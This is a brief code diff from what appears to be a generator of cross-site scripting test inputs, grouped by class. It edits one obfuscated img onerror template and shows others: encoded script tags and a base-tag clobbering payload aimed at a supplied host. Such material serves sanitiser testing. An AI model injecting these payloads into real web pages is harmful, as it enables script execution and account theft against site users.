@@ -78,7 +78,8 @@ const classes: Record<string, Template[]> = {
     (_id, js) => `&lt;script&gt;${js}&lt;/script&gt;`,
     (_id, js) => `&#60;img src=x onerror=&#34;${js}&#34;&#62;`,
     (_id, js) => `%3Cscript%3E${encodeURIComponent(js)}%3C%2Fscript%3E`,
-    (_id, js) => `<img src=x one\u0000rror="${js}">`,
+    // A raw NUL is refused by the API (PostgreSQL cannot store it); its entity is not.
+    (_id, js) => `<img src=x one&#0;rror="${js}">`,
   ],
   "base and dom clobbering": [
     (_id, _js, host) => `<base href="https://${host}/">`,
